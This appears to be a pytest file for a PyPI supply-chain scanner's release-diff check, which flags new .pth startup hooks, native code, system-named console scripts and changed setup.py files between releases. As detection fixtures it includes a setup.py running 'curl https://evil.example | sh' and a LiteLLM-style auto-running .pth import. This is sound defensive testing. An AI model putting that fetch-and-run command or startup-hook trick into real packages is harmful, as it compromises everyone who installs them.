"""``release-diff`` against the fake index: what a release adds compared with the one before."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from spip.checks import contents, release_diff
from spip.index.pypi import DistFile
from spip.policy.findings import Severity
from tests.fakeindex import FakeIndex, underscore_name
from tests.support import planned_file as planned
from tests.support import run_check

CHECK = release_diff.CHECK

IMPORT_PTH = "import litellm_hook  # runs at every start\n"


@pytest.fixture
def project(fake_index: FakeIndex, unique_name: Callable[..., str]) -> str:
    return unique_name()


def _module(project: str) -> str:
    return f"{underscore_name(project)}/__init__.py"


def test_litellm_style_new_pth_is_named(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    filler = {f"{underscore_name(project)}/m{i}.py": "x = 1\n" * 4000 for i in range(30)}
    fake_index.publish(project, "1.82.7", files={_module(project): "", **filler})
    new = fake_index.publish(
        project, "1.82.8", files={_module(project): "", **filler, "litellm_init.pth": IMPORT_PTH}
    )
    fake_index.clear_log()
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.82.8"))
    assert (f.check, f.severity) == ("release-diff", Severity.MEDIUM)
    assert "litellm_init.pth" in f.message and "1.82.7" in f.message
    assert f.evidence["startup_files_added"] == ["litellm_init.pth"]
    old_reads = [r for r in fake_index.requests if "1.82.7" in r.path]
    assert old_reads and all(r.headers.get("range") and r.status == 206 for r in old_reads)


def test_what_was_prefetched_while_pip_resolved_is_not_read_again(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    fake_index.publish(project, "1.0")
    new = fake_index.publish(project, "1.1", files={_module(project): "", "x.pth": IMPORT_PTH})
    fake_index.clear_log()
    dist = planned(fake_index, new, "1.1")
    (f,) = run_check(
        release_diff.CHECK, fake_index, tmp_path, dist, prefetched=fake_index.clear_log
    )
    assert f.evidence["startup_files_added"] == ["x.pth"]
    after = [r.path for r in fake_index.requests]
    assert after and not any("1.0" in path or "/simple/" in path for path in after)


def test_a_server_that_refuses_ranges_still_works(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    fake_index.publish(project, "1.0")
    new = fake_index.publish(project, "1.1", files={_module(project): "", "x.pth": IMPORT_PTH})
    fake_index.no_ranges = True
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1"))
    assert f.evidence["startup_files_added"] == ["x.pth"]
    assert all(r.status == 200 for r in fake_index.requests if r.path.startswith("/files/"))


def test_same_content_and_first_release_raise_nothing(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    first = fake_index.publish(project, "1.0", files={_module(project): "", "a.pth": "/opt/a\n"})
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, first, "1.0")) == []
    second = fake_index.publish(project, "1.1", files={_module(project): "", "a.pth": "/opt/b\n"})
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, second, "1.1")) == []


def test_yanked_release_is_skipped(fake_index: FakeIndex, project: str, tmp_path: Path) -> None:
    fake_index.publish(project, "1.0")
    fake_index.publish(
        project, "1.1", files={_module(project): "", "x.pth": IMPORT_PTH}, yanked="compromised"
    )
    new = fake_index.publish(project, "1.2", files={_module(project): "", "x.pth": IMPORT_PTH})
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.2"))
    assert f.evidence["previous_version"] == "1.0"


def test_console_script_named_like_a_system_command(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    fake_index.publish(project, "1.0", entry_points={"console_scripts": {"demo": "d:m"}})
    new = fake_index.publish(
        project,
        "1.1",
        entry_points={
            "console_scripts": {"demo": "d:m", "demo-extra": "d:x", "pip3.12": "d:p", "sudo": "d:s"}
        },
    )
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1"))
    assert "pip3.12, sudo" in f.message and "demo-extra" not in f.message


def test_native_code_in_a_pure_python_project(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    module = underscore_name(project)
    fake_index.publish(project, "1.0")
    native = {_module(project): "", f"{module}/_speed.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}
    new = fake_index.publish(project, "1.1", files=native, tag="cp311-cp311-manylinux_2_17_x86_64")
    fake_index.publish(project, "1.1", tag="py3-none-any")  # a pure fallback wheel as well
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1"))
    assert "native code" in f.message and "_speed.cpython-311" in f.message


def test_sdist_setup_py_and_backend(fake_index: FakeIndex, project: str, tmp_path: Path) -> None:
    fake_index.publish(project, "1.0", sdist=True)
    same = fake_index.publish(project, "1.1", sdist=True)  # only the version differs
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, same, "1.1")) == []
    changed = fake_index.publish(
        project,
        "1.2",
        sdist=True,
        setup_py="import os\nos.system('curl https://evil.example | sh')\n",
        pyproject_toml='[build-system]\nrequires = []\nbuild-backend = "backend"\n'
        'backend-path = ["."]\n',
    )
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, changed, "1.2"))
    assert "changes setup.py" in f.message and "build backend" in f.message


def _file(filename: str) -> DistFile:
    return DistFile(filename=filename, url=f"http://x/{filename}")


def test_comparable_file_prefers_the_closest_tags() -> None:
    candidates = [
        _file(n)
        for n in (
            "demo-1.0.tar.gz",
            "demo-1.0-cp311-cp311-win_amd64.whl",
            "demo-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
            "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
            "demo-1.0-py3-none-any.whl",
        )
    ]
    pick = contents.comparable_file
    assert (
        pick("demo-1.1-cp311-cp311-manylinux_2_17_x86_64.whl", candidates).filename
        == "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl"
    )
    assert pick("demo-1.1-cp313-cp313-manylinux_2_17_x86_64.whl", candidates).filename in (
        "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        "demo-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
    )
    assert pick("demo-1.1-py3-none-any.whl", candidates).filename == "demo-1.0-py3-none-any.whl"
    assert pick("demo-1.1.tar.gz", candidates).filename == "demo-1.0.tar.gz"
    assert pick("demo-1.1.tar.gz", candidates[1:]) is None


def test_previous_release_is_read_once(fake_index: FakeIndex, project: str, tmp_path: Path) -> None:
    old = fake_index.publish(project, "1.0", files={_module(project): ""})
    new = fake_index.publish(project, "1.1", files={_module(project): "", "hook.pth": IMPORT_PTH})
    dist = planned(fake_index, new, "1.1")
    first = run_check(CHECK, fake_index, tmp_path, dist)
    fake_index.clear_log()
    second = run_check(CHECK, fake_index, tmp_path, dist)
    assert first == second and "hook.pth" in second[0].message
    assert not [r for r in fake_index.requests if r.path.endswith(old.name)]


NSPKG = (
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));"
    "ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and "
    "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
    "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)


def test_benign_and_unchanged_startup_files_are_no_alarm(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    fake_index.publish(project, "1.0", files={_module(project): "", "hook.pth": IMPORT_PTH})
    new = fake_index.publish(
        project,
        "1.1",
        files={
            _module(project): "",
            "hook.pth": IMPORT_PTH,  # byte for byte what 1.0 installed
            "zope-nspkg.pth": NSPKG,  # setuptools' namespace .pth
            "paths.pth": "/opt/paths\n",  # path-only
        },
    )
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1")) == []
    changed = fake_index.publish(
        project, "1.2", files={_module(project): "", "hook.pth": "import other_hook\n"}
    )
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, changed, "1.2"))
    assert f.evidence["startup_files_added"] == ["hook.pth"] and "changes" in f.message


@pytest.mark.parametrize("stub", ["0.0.0a0", "0.0.1"])
def test_a_stub_version_is_no_baseline(
    fake_index: FakeIndex, project: str, tmp_path: Path, stub: str
) -> None:
    fake_index.publish(project, stub, files={})
    native = {_module(project): "", f"{underscore_name(project)}/_c.abi3.so": b"\x7fELF"}
    new = fake_index.publish(project, "10.3.0", files=native)
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "10.3.0")) == []


def test_a_wheel_with_no_code_is_no_baseline(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    fake_index.publish(project, "2.0", files={})  # nothing but its .dist-info
    new = fake_index.publish(project, "2.1", files={_module(project): "", "x.pth": IMPORT_PTH})
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "2.1")) == []


def test_native_code_is_new_only_against_the_same_kind_of_platform(
    fake_index: FakeIndex, project: str, tmp_path: Path
) -> None:
    module = underscore_name(project)
    # 1.0 had a Windows wheel (its native part not by a name spip knows) and no Linux one
    fake_index.publish(project, "1.0", tag="cp311-cp311-win_amd64")
    linux = {_module(project): "", f"{module}/_speed.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}
    new = fake_index.publish(project, "1.1", files=linux, tag="cp311-cp311-manylinux_2_17_x86_64")
    assert run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1")) == []


@pytest.mark.parametrize("mode", ["refuse", "wrong-range", "truncate", "416"])
def test_the_previous_release_is_read_whatever_the_ranges(
    fake_index: FakeIndex, project: str, tmp_path: Path, mode: str
) -> None:
    old = fake_index.publish(project, "1.0")
    new = fake_index.publish(project, "1.1", files={_module(project): "", "x.pth": IMPORT_PTH})
    fake_index.set_range_mode(mode, old.name)
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1"))
    assert f.evidence["startup_files_added"] == ["x.pth"]


def test_a_change_that_has_stood_for_months_is_a_note(
    fake_index: FakeIndex, unique_name: Callable[..., str], tmp_path: Path
) -> None:
    """humming-kernels 0.1.12 added native code four months ago (sglang pins it): history,
    a LOW note. The same change in a file uploaded days ago stays MEDIUM."""
    from datetime import timedelta

    findings = {}
    for days in (100, 10):
        project = unique_name("stood")
        module = underscore_name(project)
        fake_index.publish(project, "1.0", upload_time=timedelta(days=days + 20))
        native = {_module(project): "", f"{module}/_k.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}
        new = fake_index.publish(
            project,
            "1.1",
            files=native,
            tag="py3-none-manylinux_2_28_x86_64",
            upload_time=timedelta(days=days),
        )
        (findings[days],) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, new, "1.1"))
    old, recent = findings[100], findings[10]
    assert (old.severity, old.informational) == (Severity.LOW, True)
    assert "on the index for 100 days" in old.message and old.evidence["days"] == 100
    assert recent.severity is Severity.MEDIUM and not recent.informational
    assert "native code" in recent.message


def test_a_popular_source_only_projects_setup_py_change_is_a_note(
    fake_index: FakeIndex, tmp_path: Path
) -> None:
    """pyspark and psycopg2 change setup.py in most releases (their build is announced by
    sdist-build): a LOW note. A new build backend beside it stays MEDIUM."""
    name = "pyspark"  # on the popular list
    fake_index.publish(name, "4.0.0", sdist=True)
    changed = fake_index.publish(
        name,
        "4.0.1",
        sdist=True,
        setup_py="from setuptools import setup\nsetup(name='pyspark', py_modules=[])\n# new\n",
    )
    (f,) = run_check(CHECK, fake_index, tmp_path, planned(fake_index, changed, "4.0.1"))
    assert (f.severity, f.informational) == (Severity.LOW, True)
    assert "changes setup.py" in f.message and "popular list" in f.message
